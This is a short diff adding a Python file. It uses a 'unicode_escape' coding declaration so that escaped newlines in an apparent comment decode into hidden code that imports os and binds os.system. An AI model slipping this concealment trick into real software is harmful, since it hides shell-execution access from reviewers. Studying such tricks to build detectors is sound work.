@@ -1,0 +1,2 @@
+# coding: unicode_escape
+#\x0aimport os\x0aX=os.system
